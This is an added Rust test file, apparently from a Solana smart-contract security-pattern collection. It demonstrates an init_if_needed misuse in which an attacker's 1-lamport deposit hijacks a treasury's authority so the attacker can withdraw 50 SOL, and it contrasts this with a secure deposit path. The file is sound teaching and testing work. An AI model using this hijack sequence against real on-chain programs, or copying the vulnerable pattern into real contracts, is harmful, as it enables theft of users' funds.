@@ -0,0 +1,249 @@
+/// # Pattern 21: init_if_needed Misuse — Mollusk Exploit Tests
+///
+/// In the first two tests the treasury already exists: the admin created
+/// it, and it holds 50 SOL of deposits. The third starts before the
+/// treasury exists.
+///
+/// - Test 1: EXPLOIT — a 1-lamport deposit_vulnerable makes the attacker
+///   the authority and resets the total, and the attacker withdraws 50 SOL.
+/// - Test 2: SECURE — deposit_secure leaves the authority alone and adds to
+///   the total; the attacker's withdrawal fails.
+/// - Test 3: SANITY — the first deposit_secure creates the treasury with
+///   the depositor as authority, a second depositor doesn't change it, and
+///   the admin withdraws.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::AccountSharedData,
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+};
+use test_harness::{account_discriminator, executable_account, ix_discriminator, Ledger};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("7Sb7J1abnpPKEBXM8jXNyHohoxxGHXg9xgNdXXhjV42v");
+
+const SOL: u64 = 1_000_000_000;
+const WALLET: u64 = 10 * SOL;
+const FUNDS: u64 = 50 * SOL;
+const TREASURY_LEN: usize = 50;
+
+// Error codes
+const CONSTRAINT_HAS_ONE: u32 = 2001;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize a Treasury account:
+///   [8 disc][32 authority][1 is_initialized][8 total_deposited][1 bump]
+fn serialize_treasury(authority: &Pubkey, total_deposited: u64, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(TREASURY_LEN);
+    data.extend_from_slice(&account_discriminator("Treasury"));
+    data.extend_from_slice(authority.as_ref());
+    data.push(1); // is_initialized
+    data.extend_from_slice(&total_deposited.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+fn wallet() -> AccountSharedData {
+    AccountSharedData::new(WALLET, 0, &solana_sdk::system_program::ID)
+}
+
+struct Setup {
+    mollusk: Mollusk,
+    admin: Pubkey,
+    attacker: Pubkey,
+    treasury: Pubkey,
+    bump: u8,
+    rent: u64,
+    ledger: Ledger,
+}
+
+/// The admin and attacker wallets. With `existing`, the treasury was
+/// created by the admin and holds FUNDS; otherwise it doesn't exist yet.
+fn setup(existing: bool) -> Setup {
+    let mollusk = Mollusk::new(&PROGRAM_ID, "init_if_needed");
+    let admin = Pubkey::new_unique();
+    let attacker = Pubkey::new_unique();
+    let (treasury, bump) = Pubkey::find_program_address(&[b"treasury"], &PROGRAM_ID);
+    let rent = mollusk.sysvars.rent.minimum_balance(TREASURY_LEN);
+
+    let treasury_account = if existing {
+        let data = serialize_treasury(&admin, FUNDS, bump);
+        let mut account = AccountSharedData::new(rent + FUNDS, data.len(), &PROGRAM_ID);
+        account.set_data_from_slice(&data);
+        account
+    } else {
+        AccountSharedData::default()
+    };
+
+    let ledger = vec![
+        (treasury, treasury_account),
+        (admin, wallet()),
+        (attacker, wallet()),
+        (
+            solana_sdk::system_program::ID,
+            executable_account(&solana_sdk::native_loader::id()),
+        ),
+    ];
+
+    Setup {
+        mollusk,
+        admin,
+        attacker,
+        treasury,
+        bump,
+        rent,
+        ledger: Ledger::new(ledger),
+    }
+}
+
+impl Setup {
+    fn deposit(&self, name: &str, depositor: Pubkey, amount: u64) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.treasury, false),
+                AccountMeta::new(depositor, true),
+                AccountMeta::new_readonly(solana_sdk::system_program::ID, false),
+            ],
+        )
+    }
+
+    fn withdraw(&self, authority: Pubkey, amount: u64) -> Instruction {
+        let mut data = ix_discriminator("withdraw").to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.treasury, false),
+                AccountMeta::new(authority, true),
+            ],
+        )
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_deposit_resets_authority_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT:
+    //   1. Attacker: deposit_vulnerable(1 lamport) into the admin's treasury
+    //   2. Attacker: withdraw(50 SOL)
+    //
+    // Expected: 1 SUCCEEDS. init_if_needed accepts the existing treasury,
+    //           and the handler sets authority = attacker and
+    //           total_deposited = 1. 2 SUCCEEDS: the attacker takes the
+    //           50 SOL.
+    // -----------------------------------------------------------------------
+    let mut s = setup(true);
+    let (treasury, attacker) = (s.treasury, s.attacker);
+    let hijacked = serialize_treasury(&attacker, 1, s.bump);
+
+    let ix = s.deposit("deposit_vulnerable", attacker, 1);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&treasury).data(&hijacked).build(),
+        ],
+    );
+
+    let ix = s.withdraw(attacker, FUNDS);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&attacker)
+                .lamports(WALLET - 1 + FUNDS)
+                .build(),
+        ],
+    );
+}
+
+#[test]
+fn secure_deposit_keeps_authority() {
+    // -----------------------------------------------------------------------
+    // SECURE: The same 1-lamport deposit through deposit_secure, then the
+    // attacker's withdrawal.
+    //
+    // Expected: the deposit SUCCEEDS with the admin still the authority and
+    //           total_deposited = 50 SOL + 1. The withdrawal FAILS with
+    //           ConstraintHasOne (2001).
+    // -----------------------------------------------------------------------
+    let mut s = setup(true);
+    let (treasury, admin, attacker) = (s.treasury, s.admin, s.attacker);
+    let unchanged = serialize_treasury(&admin, FUNDS + 1, s.bump);
+
+    let ix = s.deposit("deposit_secure", attacker, 1);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&treasury).data(&unchanged).build(),
+        ],
+    );
+
+    let ix = s.withdraw(attacker, FUNDS);
+    s.ledger.step(&s.mollusk, &ix, &[Check::err(ProgramError::Custom(CONSTRAINT_HAS_ONE))]);
+}
+
+#[test]
+fn sanity_first_deposit_creates_treasury_secure() {
+    // -----------------------------------------------------------------------
+    // SANITY: Before the treasury exists:
+    //   1. Admin: deposit_secure(1 SOL) creates it
+    //   2. Another user: deposit_secure(2 SOL)
+    //   3. Admin: withdraw(3 SOL)
+    //
+    // Expected: all SUCCEED. The admin is the authority from step 1 on,
+    //           total_deposited reaches 3 SOL, and the treasury ends with
+    //           only its rent.
+    // -----------------------------------------------------------------------
+    let mut s = setup(false);
+    let (treasury, admin, user) = (s.treasury, s.admin, s.attacker);
+    let rent = s.rent;
+
+    let ix = s.deposit("deposit_secure", admin, SOL);
+    let created = serialize_treasury(&admin, SOL, s.bump);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&treasury).data(&created).build(),
+        ],
+    );
+
+    let ix = s.deposit("deposit_secure", user, 2 * SOL);
+    let topped_up = serialize_treasury(&admin, 3 * SOL, s.bump);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&treasury).data(&topped_up).build(),
+        ],
+    );
+
+    let ix = s.withdraw(admin, 3 * SOL);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&treasury).lamports(rent).build(),
+        ],
+    );
+}